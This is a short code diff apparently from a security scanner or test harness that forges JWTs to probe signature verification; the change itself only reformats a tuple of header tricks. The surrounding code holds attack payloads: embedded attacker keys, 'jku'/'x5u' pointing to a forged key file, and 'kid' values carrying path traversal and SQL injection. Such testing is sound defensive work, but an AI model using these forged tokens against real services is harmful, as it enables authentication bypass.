@@ -16,7 +16,13 @@ def _run(attacker: Attacker) -> Verdict:
     header, payload = header_of(login.credential), login.credential.split(".")[1]
     key = ec.generate_private_key(ec.SECP256R1())
     elsewhere = f"{target.origin}/evil.json"
-    tricks = ({"jwk": _jwk(key)}, {"jku": elsewhere}, {"x5u": elsewhere}, {"x5c": ["AAAA"]}, {})
+    tricks: tuple[dict[str, object], ...] = (
+        {"jwk": _jwk(key)},
+        {"jku": elsewhere},
+        {"x5u": elsewhere},
+        {"x5c": ["AAAA"]},
+        {},
+    )
     for trick in tricks:
         for kid in (header.get("kid"), "../../dev/null", "' or 1=1 --", elsewhere, None):
             head = segment(header | {"alg": "ES256", "kid": kid} | trick)
